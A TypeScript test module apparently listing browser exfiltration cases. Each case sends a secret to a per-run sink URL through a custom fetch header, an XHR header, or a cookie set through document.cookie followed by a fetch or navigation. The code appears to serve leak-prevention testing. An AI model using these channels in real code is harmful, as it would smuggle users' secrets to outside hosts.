import { type Attack, row, type Secret, variant } from '../attack.ts';

function setCookie(secret: Secret): void {
  // Only this run's addresses see it.
  // biome-ignore lint/suspicious/noDocumentCookie: the attack is this very setter
  document.cookie = `note=${secret.value}; path=${new URL(secret.sink).pathname}`;
}

/** Text that rides in a header. */
export const HEADERS: readonly Attack[] = [
  row('42', 'custom request header', (secret) => fetch(`${secret.sink}header`, { headers: { 'x-note': secret.value } })),
  variant('42b', 'custom header of an XHR with a body', (secret) => {
    const request = new XMLHttpRequest();
    request.open('POST', `${secret.sink}header`);
    request.setRequestHeader('x-note', secret.value);
    request.send('{}');
  }),
  row('60', 'cookie, then fetch', (secret) => {
    setCookie(secret);
    setTimeout(() => void fetch(`${secret.sink}cookie`), 300);
  }),
  row('60b', 'cookie, then navigation', (secret) => {
    setCookie(secret);
    setTimeout(() => {
      location.href = `${secret.sink}page`;
    }, 300);
  }),
];
